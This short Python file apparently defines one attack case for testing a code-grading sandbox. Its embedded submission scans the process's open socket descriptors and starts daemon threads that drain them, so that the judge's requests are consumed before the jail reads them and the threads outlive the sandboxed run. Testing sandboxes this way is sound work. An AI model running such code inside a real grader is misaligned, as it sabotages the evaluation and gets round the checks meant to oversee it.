"""Read the judge's requests before the jail's own side does, in a thread that outlives its cell."""

from attacking import Attack

STEALS = """
import os
import stat
import threading

def steal(number):
    while True:
        try:
            os.read(number, 1 << 16)
        except OSError:
            return

for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            threading.Thread(target=steal, args=(number,), daemon=True).start()
    except OSError:
        pass
"""
ATTACK = Attack(
    answers={"pairwise-l2": STEALS},
    solved=(),
    hangs=True,
    no_stock="stock has no channel: check and answer share one process",
)
